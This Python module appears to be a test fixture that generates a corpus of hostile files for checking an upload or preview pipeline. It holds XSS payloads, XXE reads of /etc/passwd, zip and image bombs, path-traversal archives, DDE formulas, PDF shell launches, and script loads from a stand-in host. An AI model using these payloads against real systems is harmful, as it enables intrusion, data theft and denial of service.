"""More than two hundred kinds of hostile files, made here: drawings, pages, polyglots, PDFs, bombs, fonts, office files, films, texts.

Each tries to run HIT, or to bring down who opens it. `corpus()` gives them by the name under which they are delivered.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

from PIL import Image

from tests.files import samples

HIT = "window.hit=1;document.title='hit';fetch('/canary');alert(42)"
TAG = f"<script>{HIT}</script>"
ELSEWHERE = "https://canary.example/x"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"'


def drawings() -> dict[str, str]:
    inner = {
        "script": TAG, "cdata": f"<script><![CDATA[{HIT}]]></script>", "xlink-script": f'<script xlink:href="{ELSEWHERE}.js"/>',
        "foreign": f'<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{HIT}"/></body></foreignObject>',
        "frame": f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{HIT}"/></foreignObject>',
        "begin": f'<animate onbegin="{HIT}" attributeName="x" dur="1s"/>', "end": f'<set onend="{HIT}" attributeName="x" dur="0.1s"/>',
        "to": f'<a id="a"><text y="20">x</text></a><animate href="#a" attributeName="href" values="javascript:{HIT}"/>',
        "link": f'<a xlink:href="javascript:{HIT}"><rect width="99" height="99"/></a>', "use": f'<use href="{ELSEWHERE}.svg#a"/>',
        "image": f'<image href="{ELSEWHERE}.png" width="9" height="9"/>', "filter": f'<filter><feImage href="{ELSEWHERE}.png"/></filter>',
        "style": f"<style>@import '{ELSEWHERE}.css'; *{{fill:url({ELSEWHERE})}}</style>", "error": f'<image href="x:x" onerror="{HIT}"/>',
        "handler": f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{HIT}</handler>',
        "embed": f'<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:{HIT}"/></foreignObject>',
        "title": f"<title>{TAG}</title>", "desc": f"<desc><![CDATA[{TAG}]]></desc>", "metadata": f"<metadata>{TAG}</metadata>",
    }  # fmt: skip
    made = {f"svg-{name}": f"{SVG}>{what}</svg>" for name, what in inner.items()}
    lol = (
        '<!DOCTYPE s [<!ENTITY a "lol">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    return {
        **made, "svg-onload": f'{SVG} onload="{HIT}"/>', "svg-laughs": f"{lol}{SVG}><text>&j;</text></svg>",
        "svg-outside": f'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}><text>&x;</text></svg>',
        "svg-sheet": f'<?xml version="1.0"?><?xml-stylesheet href="{ELSEWHERE}.xsl" type="text/xsl"?>{SVG}>{TAG}</svg>',
        "svg-blank": f"\n\n \t{SVG} onload='{HIT}'/>", "svg-comment": f"<!-- x -->{SVG} onload='{HIT}'/>",
    }  # fmt: skip


def pages() -> dict[str, str]:
    bodies = {
        "script": TAG, "img": f'<img src=x onerror="{HIT}">', "onload": f'<body onload="{HIT}">', "details": f'<details open ontoggle="{HIT}">x',
        "focus": f'<input autofocus onfocus="{HIT}">', "select": f'<select autofocus onfocus="{HIT}">', "video": f'<video><source onerror="{HIT}">',
        "audio": f'<audio src=x onerror="{HIT}">', "srcdoc": f'<iframe srcdoc="{TAG}"></iframe>', "frame": f'<iframe src="javascript:{HIT}"></iframe>',
        "object": f'<object data="javascript:{HIT}">', "embed": f'<embed src="data:text/html;base64,{base64.b64encode(TAG.encode()).decode()}">',
        "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">', "base": '<base href="https://canary.example/"><script src="x.js"></script>',
        "form": f'<form action="{ELSEWHERE}"><button autofocus onfocus="{HIT}">', "style": f"<style>@import '{ELSEWHERE}.css'</style>",
        "marquee": f'<marquee onstart="{HIT}">x', "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</math>',
        "template": f"<template>{TAG}</template>{TAG}", "noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
        "link": f'<link rel="stylesheet" href="{ELSEWHERE}.css">', "prefetch": f'<link rel="prefetch" href="{ELSEWHERE}">',
        "worker": f'<script>navigator.serviceWorker.register("/sw.js")</script>{TAG}', "module": f'<script type="module">{HIT}</script>',
        "map": f'<script type="importmap">{{"imports":{{"a":"{ELSEWHERE}.js"}}}}</script>{TAG}', "portal": f'<portal src="{ELSEWHERE}">',
        "animation": f'<style>@keyframes x{{}}</style><b style="animation:x" onanimationstart="{HIT}">x', "pop": f'<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{HIT}">',
    }  # fmt: skip
    made = {f"html-{name}": f"<!doctype html>{what}" for name, what in bodies.items()}
    return {
        **made, "html-no-doctype": TAG, "html-junk": "x" * 600 + TAG, "html-blank": " \n\t" * 300 + f"<html>{TAG}", "xhtml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{TAG}</html>',
        "hta": f"<html><hta:application/>{TAG}</html>", "xslt": f'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">{TAG}</xsl:template></xsl:stylesheet>',
        "rss": f'<?xml version="1.0"?><rss version="2.0"><channel><description><![CDATA[{TAG}]]></description></channel></rss>',
        "atom": f'<feed xmlns="http://www.w3.org/2005/Atom"><content type="html"><![CDATA[{TAG}]]></content></feed>', "xul": f'<window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul" onload="{HIT}"/>',
        "mht": f"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{TAG}\r\n--b--",
        "eml": f"From: a@b\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n{TAG}", "wml": f"<?xml version='1.0'?><wml><card onenterforward='{HIT}'/></wml>",
    }  # fmt: skip


def coded() -> dict[str, bytes]:
    """The same page in codings that a browser might guess."""
    kinds = {
        "utf-16": "utf-16",
        "utf-16le": "utf-16-le",
        "utf-16be": "utf-16-be",
        "utf-7": "utf-7",
        "utf-32": "utf-32",
        "utf-8-mark": "utf-8-sig",
    }
    made = {f"html-{name}": f"<html>{TAG}".encode(coding) for name, coding in kinds.items()}
    made |= {f"svg-{name}": f"{SVG} onload='{HIT}'/>".encode(coding) for name, coding in kinds.items()}
    made |= {
        "html-nul": b"<\0s\0c\0r\0i\0p\0t\0>" + TAG.encode(),
        "html-jis": b"\x1b$B" + TAG.encode(),
        "html-nuls": b"\0" * 64 + TAG.encode(),
    }
    return made | {"svgz": gzip.compress(f"{SVG} onload='{HIT}'/>".encode()), "html-gz": gzip.compress(TAG.encode())}


def polyglots() -> dict[str, bytes]:
    tag, script = TAG.encode(), f"/*\0*/;{HIT}//".encode()
    heads = {
        "png": b"\x89PNG\r\n\x1a\n", "gif": b"GIF89a", "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0", "bmp": b"BM", "webp": b"RIFF\0\0\0\0WEBPVP8 ",
        "tiff": b"II*\0\x08\0\0\0", "ico": b"\0\0\1\0\1\0", "psd": b"8BPS\0\1", "pdf": b"%PDF-1.7\n", "ps": b"%!PS-Adobe-3.0\n", "zip": b"PK\x03\x04",
        "gz": b"\x1f\x8b\x08\0", "7z": b"7z\xbc\xaf\x27\x1c", "rar": b"Rar!\x1a\x07\0", "cab": b"MSCF\0\0\0\0", "mp3": b"ID3\3\0\0\0\0\0\x21", "mp4": b"\0\0\0\x18ftypmp42",
        "wav": b"RIFF\x24\0\0\0WAVEfmt ", "ogg": b"OggS\0\2", "flac": b"fLaC\0\0\0\x22", "webm": b"\x1aE\xdf\xa3", "avi": b"RIFF\0\0\0\0AVI LIST", "ttf": b"\0\1\0\0\0\x0a",
        "woff": b"wOFF\0\1\0\0", "woff2": b"wOF2\0\1\0\0", "exe": b"MZ\x90\0", "elf": b"\x7fELF\2\1\1", "class": b"\xca\xfe\xba\xbe\0\0\0\x34", "swf": b"FWS\x09",
        "wasm": b"\0asm\1\0\0\0", "rtf": b"{\\rtf1 ", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "sqlite": b"SQLite format 3\0", "heic": b"\0\0\0\x18ftypheic", "avif": b"\0\0\0\x18ftypavif",
    }  # fmt: skip
    made = {f"poly-{name}-html": head + tag + bytes(300) for name, head in heads.items()}
    made |= {
        f"poly-{name}-js": head + script
        for name, head in heads.items()
        if name in {"gif", "bmp", "jpeg", "png", "pdf", "wav", "mp3", "zip"}
    }
    whole = io.BytesIO()
    Image.new("RGB", (9, 9)).save(whole, "PNG")
    packed = samples.zipped({"a.html": TAG})
    made |= {
        "poly-png-zip": whole.getvalue() + packed,
        "poly-gifar": b"GIF89a" + bytes(20) + packed,
        "poly-html-zip": tag + packed,
        "poly-pdf-zip": pdf("") + packed,
    }
    return made | {"poly-zip-html": packed + tag, "poly-tar-html": samples.tarred({TAG[:90]: tag}, "w:")}


def pdf(catalog: str, page: str = "", more: str = "") -> bytes:
    return f"""%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R {catalog}>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200] {page}>>endobj
{more}
trailer<</Root 1 0 R>>
%%EOF""".encode()


def pdfs() -> dict[str, bytes]:
    script = f"/S/JavaScript/JS({HIT.replace('(', '[').replace(')', ']')})"
    actions = {
        "js": f"/OpenAction<<{script}>>", "launch": "/OpenAction<</S/Launch/F(/bin/sh)>>", "uri": f"/OpenAction<</S/URI/URI({ELSEWHERE})>>",
        "submit": f"/OpenAction<</S/SubmitForm/F({ELSEWHERE})>>", "remote": f"/OpenAction<</S/GoToR/F({ELSEWHERE})>>", "names": f"/Names<</JavaScript<</Names[(a)<<{script}>>]>>>>",
        "aa": f"/AA<</WC<<{script}>>>>", "xfa": f"/AcroForm<</XFA({TAG})>>", "hide": "/OpenAction<</S/Hide/T(x)>>", "import": f"/OpenAction<</S/ImportData/F({ELSEWHERE})>>",
    }  # fmt: skip
    made = {f"pdf-{name}": pdf(what) for name, what in actions.items()}
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * 4_000_000, 9)
    bomb = f"4 0 obj<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode() + packed + b"\nendstream endobj"
    made |= {
        "pdf-bomb": pdf("", "/Contents 4 0 R").replace(b"\n\ntrailer", b"\n" + bomb + b"\ntrailer"),
        "pdf-wide": pdf("").replace(b"200 200", b"9999999 9999999"),
    }
    made |= {
        "pdf-loop": pdf("").replace(b"Kids[3 0 R]", b"Kids[2 0 R]"),
        "pdf-many": pdf("").replace(b"[3 0 R]/Count 1", b"[" + b"3 0 R " * 20_000 + b"]/Count 20000"),
    }
    return made | {"pdf-cut": pdf("")[:60], "pdf-negative": pdf("").replace(b"200 200", b"-9 -9")}


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def head(side: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))


def bombs() -> dict[str, bytes]:
    nothing = bytes(100 << 20)
    inner = samples.zipped({"a": nothing})
    rows = "".join(f"<row><c t='inlineStr'><is><t>{n}</t></is></c></row>" for n in range(200_000))
    laughs = (
        '<!DOCTYPE x [<!ENTITY a "lollollol">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    sheet = {
        **samples.PARTS,
        "xl/worksheets/sheet1.xml": laughs + samples.SHEET % "<row><c t='inlineStr'><is><t>&j;</t></is></c></row>",
    }
    return {
        "bomb.zip": inner, "bomb-in-bomb.zip": samples.zipped({f"{n}.zip": inner for n in range(9)}), "bomb-many.zip": samples.zipped({f"{n}": b"" for n in range(30_000)}),
        "bomb.tgz": samples.tarred({"a": nothing}), "bomb.gz": gzip.compress(nothing), "bomb.bz2": bz2.compress(nothing), "bomb.xz": lzma.compress(nothing), "bomb-huge.png": head(60_000) + chunk(b"IDAT", b""),
        "bomb-data.png": head(8_000) + chunk(b"IDAT", zlib.compress(bytes(8_000 * 24_001), 9)) + chunk(b"IEND", b""), "bomb-text.png": head(9) + chunk(b"zTXt", b"a\0\0" + zlib.compress(nothing)),
        "bomb-profile.png": head(9) + chunk(b"iCCP", b"a\0\0" + zlib.compress(nothing)), "bomb.gif": b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x08\xff" * 200,
        "bomb.bmp": b"BM" + struct.pack("<IHHIIiiHHIIiiII", 0, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0), "bomb-loop.tif": b"II*\0\x08\0\0\0\1\0" + bytes(12) + b"\x08\0\0\0",
        "bomb.tif": b"II*\0\x08\0\0\0\2\0" + struct.pack("<HHII", 256, 4, 1, 4_000_000) + struct.pack("<HHII", 257, 4, 1, 4_000_000) + bytes(4), "bomb.webp": b"RIFF\x20\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6,
        "bomb.jpg": b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\1\3\x11\1\xff\xd9", "bomb-rows.xlsx": samples.zipped({**samples.PARTS, "xl/worksheets/sheet1.xml": samples.SHEET % rows}),
        "bomb-laughs.xlsx": samples.zipped(sheet), "bomb-blank.xlsx": samples.zipped({**samples.PARTS, "xl/worksheets/sheet1.xml": b" " * (90 << 20)}), "deep.json": b"[" * 200_000, "wide.csv": b"," * 900_000,
        "quote.csv": b'"' + b"a\n" * 400_000, "line.txt": b"x" * 3_000_000, "deep.md": b">" * 60_000 + b" x", "stars.md": b"*a_" * 60_000, "brackets.md": b"[" * 60_000 + b"](" * 9_000, "table.md": b"|a" * 20_000 + b"|\n" + b"|-" * 20_000 + b"|\n",
        "ticks.md": b"`" * 60_000 + b"a" + b"``" * 30_000, "alias.yaml": b"a: &a [x,x]\n" + b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(20)),
        "backtrack.js": b"/" + b"(a+)+" * 9_000, "open.py": b'"""' + b"\\" * 100_001, "nested.html.php": b"<?php " * 30_000, "strings.sql": b"'" * 100_001, "heredoc.sh": b"<<A" * 30_000, "deep.xml": b"<a>" * 90_000,
    }  # fmt: skip


def archives() -> dict[str, bytes]:
    made = {
        "up.zip": samples.zipped({"../../../../etc/passwd": "x", "/etc/passwd": "x", "C:\\x": "x"}),
        "names.zip": samples.zipped({f"{TAG}.txt": "x", "\u202egpj.exe": "x", "a" * 60_000: "x"}),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, kind in (
            ("link", tarfile.SYMTYPE),
            ("hard", tarfile.LNKTYPE),
            ("device", tarfile.CHRTYPE),
            ("pipe", tarfile.FIFOTYPE),
        ):
            entry = tarfile.TarInfo(f"../{name}")
            entry.type, entry.linkname = kind, "/etc/passwd"
            file.addfile(entry)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as file:
        for n in range(50):
            file.writestr(zipfile.ZipInfo(f"{n}"), b"same" * 99)
    lying = bytearray(samples.zipped({"a": b"x" * 99}))
    lying[-22 + 12 : -22 + 16] = b"\xff\xff\xff\x7f"
    tar = bytearray(samples.tarred({"a": b"x" * 99}, "w:"))
    tar[124:136] = b"77777777777\0"
    return made | {
        "links.tar": out.getvalue(),
        "twice.zip": twice.getvalue(),
        "lying.zip": bytes(lying),
        "lying.tar": bytes(tar),
        "cut.zip": samples.zipped({"a": b"x" * 9999})[:-30],
        "cut.tgz": samples.tarred({"a": b"x" * 9999})[:60],
    }


def fonts() -> dict[str, bytes]:
    whole, made = samples.font(), {}
    for seed in range(8):
        chance, broken = random.Random(seed), bytearray(whole)
        for _ in range(200):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        made[f"broken-{seed}.ttf"] = bytes((broken[:4] == whole[:4] and broken) or whole[:4] + broken[4:])
    return made | {
        "cut.ttf": whole[:500],
        "tables.ttf": whole[:4] + b"\xff\xff" + whole[6:],
        "size.woff": b"wOFF\0\1\0\0" + b"\xff" * 60,
        "size.woff2": b"wOF2\0\1\0\0" + b"\xff" * 60,
        "name.otf": b"OTTO\0\1" + bytes(90),
    }


def office() -> dict[str, bytes]:
    relation = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
    types = samples.PARTS["[Content_Types].xml"]
    word = {
        "[Content_Types].xml": types,
        "_rels/.rels": samples.PARTS["_rels/.rels"].replace("xl/workbook", "word/document"),
        "word/document.xml": "<w:document/>",
    }
    macro, old = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + b"Attribut\0e VB_Nam\0e = AutoOpen",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900),
    )
    outside = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return {
        "macro.docm": samples.zipped({**word, "word/vbaProject.bin": macro}), "macro.xlsm": samples.zipped({**samples.PARTS, "xl/worksheets/sheet1.xml": samples.SHEET % "", "xl/vbaProject.bin": macro}),
        "macro.pptm": samples.zipped({**word, "ppt/vbaProject.bin": macro, "ppt/presentation.xml": "<p/>"}), "macro.doc": macro, "macro.xls": old + b"W\0o\0r\0k\0b\0o\0o\0k\0" + macro, "macro.ppt": old + b"PowerPoint",
        "template.docx": samples.zipped({**word, "word/_rels/settings.xml.rels": relation.format("attachedTemplate", ELSEWHERE)}), "chunk.docx": samples.zipped({**word, "word/chunk.html": TAG}),
        "frame.docx": samples.zipped({**word, "word/_rels/document.xml.rels": relation.format("frame", ELSEWHERE)}), "ole.docx": samples.zipped({**word, "word/embeddings/oleObject1.bin": macro}),
        "link.xlsx": samples.zipped({**samples.PARTS, "xl/worksheets/sheet1.xml": samples.SHEET % "", "xl/externalLinks/_rels/e.xml.rels": relation.format("externalLinkPath", ELSEWHERE)}),
        "dde.xlsx": samples.book([["=cmd| /C calc!A0", "=HYPERLINK(1)"]]), "dde.csv": b"=cmd|' /C calc'!A0,@SUM(1),+1,-1\n", "outside.xlsx": samples.zipped({**samples.PARTS, "xl/worksheets/sheet1.xml": outside + samples.SHEET % "<row><c t='inlineStr'><is><t>&x;</t></is></c></row>"}),
        "outside.docx": samples.zipped({**word, "word/document.xml": outside + "<w>&x;</w>"}), "object.rtf": b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000}}}", "field.rtf": b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"" + ELSEWHERE.encode() + b"\"}}}",
        "macro.ods": samples.zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": f"<office:script>{HIT}</office:script>", "Basic/a.xml": HIT}), "macro.odt": samples.zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": f"<a xlink:href='javascript:{HIT}'/>"}),
        "x.slk": b"ID;P\nC;X1;Y1;K0;ECALL(1)\nE\n", "x.iqy": b"WEB\n1\n" + ELSEWHERE.encode(), "x.xll": b"MZ\x90\0xlAutoOpen", "x.one": b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(99) + TAG.encode(), "sheets.xlsx": samples.zipped({**samples.PARTS, "xl/workbook.xml": samples.PARTS["xl/workbook.xml"].replace("</sheets>", '<sheet name="a" sheetId="9" r:id="r1"/>' * 5_000 + "</sheets>"), "xl/worksheets/sheet1.xml": samples.SHEET % ""}),
    }  # fmt: skip


def films() -> dict[str, bytes]:
    whole, web = samples.film(seconds=1), samples.film("webm", "libvpx", seconds=1)
    made = {}
    for seed in range(6):
        chance = random.Random(seed)
        for name, source in (("mp4", whole), ("webm", web)):
            broken = bytearray(source)
            for _ in range(60):
                broken[chance.randrange(40, len(broken))] = chance.randrange(256)
            made[f"broken-{seed}.{name}"] = bytes(broken)
    playlist = f"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n{ELSEWHERE}\n".encode()
    return made | {
        "list.m3u8": playlist, "list.mp4": whole[:40] + playlist, "cut.mp4": whole[: len(whole) // 2], "atom.mp4": whole[:32] + b"\xff\xff\xff\xffmoov" + whole[40:], "outside.mov": b"\0\0\0\x14ftypqt  " + bytes(8) + b"\0\0\0\x30moovdrefurl " + ELSEWHERE.encode(),
        "loop.mkv": b"\x1aE\xdf\xa3\x9fB\x82\x88matroska\x18\x53\x80\x67" + b"\x01" + b"\xff" * 7 + b"\xa3" * 999, "dash.mpd": f'<?xml version="1.0"?><MPD><BaseURL>{ELSEWHERE}</BaseURL></MPD>'.encode(), "list.asx": f'<asx><entry><ref href="{ELSEWHERE}"/></entry></asx>'.encode(),
        "sub.vtt": f"WEBVTT\n\n00:00.000 --> 00:09.000\n{TAG}\n".encode(), "picture.mp3": b"ID3\3\0\0\0\0\x10\0APIC\0\0\1\0\0\0\0image/svg+xml\0\3\0" + TAG.encode(), "size.wav": b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\xff\xff\xff\xff\xff\xff" + bytes(99), "cover.flac": b"fLaC\6\0\1\0" + TAG.encode(),
    }  # fmt: skip


def texts() -> dict[str, str]:
    marks = {
        "raw": TAG, "js": f"[a](javascript:{HIT})", "data": "[a](data:text/html;base64,PHNjcmlwdD4=)", "vb": "[a](vbscript:x)", "image": f"![a]({ELSEWHERE}.png)", "error": f'![a](x" onerror="{HIT})',
        "title": f'[a](https://b.example "x" onmouseover="{HIT}")', "reference": f"[a][b]\n\n[b]: javascript:{HIT}", "auto": f"<javascript:{HIT}>", "entity": f"[a](&#106;avascript:{HIT})", "tab": f"[a](java\tscript:{HIT})", "fence": f'```"><img src=x onerror={HIT}>\nx\n```', "comment": f"<!-- --><img src=x onerror={HIT}>",
        "cell": f"|{TAG}|\n|---|\n|<img src=x onerror={HIT}>|", "heading": f"# <svg onload={HIT}>", "style": "<style>*{display:none}</style>", "form": f"<form action={ELSEWHERE}><button>x</button></form>", "frame": f"<iframe src={ELSEWHERE}></iframe>",
    }  # fmt: skip
    others = {
        "a.js": HIT, "sw.js": f"self.addEventListener('install',()=>{{{HIT}}})", "a.mjs": f"export default {HIT!r}", "a.css": f"@import '{ELSEWHERE}';body{{background:url({ELSEWHERE});behavior:url(x)}}", "a.json": json.dumps({"__proto__": {"hit": TAG}}), "page.html.txt": "x " + TAG,
        "a.url": f"[InternetShortcut]\nURL=javascript:{HIT}", "a.desktop": "[Desktop Entry]\nExec=sh -c x", "a.webloc": f"<plist><dict><key>URL</key><string>{ELSEWHERE}</string></dict></plist>", ".htaccess": "AddType text/html .png", "a.php": f"<?php system('x'); ?>{TAG}", "a.jsp": f"<% x %>{TAG}", "a.asp": f"<% x %>{TAG}",
        "a.sh": "#!/bin/sh\nrm -rf x", "a.bat": "@echo off\r\ndel x", "a.ps1": "Invoke-Expression x", "a.vbs": 'MsgBox "x"', "a.reg": "Windows Registry Editor Version 5.00", "a.ics": f"BEGIN:VCALENDAR\nDESCRIPTION:{TAG}\nURL:javascript:{HIT}\nEND:VCALENDAR", "a.vcf": f"BEGIN:VCARD\nFN:{TAG}\nEND:VCARD", "a.webmanifest": json.dumps({"start_url": f"javascript:{HIT}"}),
        "crossdomain.xml": '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>', "a.map": json.dumps({"sources": [ELSEWHERE]}), "a.diff": f"--- a\n+++ b\n+{TAG}", "a.tsv": f"a\t{TAG}\n=1+1\t'\"><img src=x onerror={HIT}>", "a.csv": f'"{TAG}","=1+1"\n', "a.tex": "\\input{/etc/passwd}\\write18{x}",
        "bidi.py": "x = 1 \u202e } \u2066if admin\u2069 \u2066 # off", "'\"><img src=x onerror=alert(1)>.txt": TAG[:1] + "b" + TAG, "{{7*7}}.md": "{{ 7|add:35 }} {% debug %}", "a.html.md": f"<a href='javascript:{HIT}'>x</a>",
    }  # fmt: skip
    return {f"md-{name}.md": f"Read this.\n\n{what}\n" for name, what in marks.items()} | others


ENDINGS = {"svg": "svg", "html": "html", "poly": "bin", "pdf": "pdf"}


def corpus() -> dict[str, bytes]:
    """All of them by name; each content is another."""
    found: dict[str, bytes] = {}
    for made in (drawings(), pages(), coded(), polyglots(), pdfs(), bombs(), archives(), fonts(), office(), films(), texts()):
        for name, content in made.items():
            ending = ENDINGS.get(name.partition("-")[0], "xml")
            whole = name if "." in name else f"{name}.{ending}"
            assert whole not in found, whole
            found[whole] = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
    return found
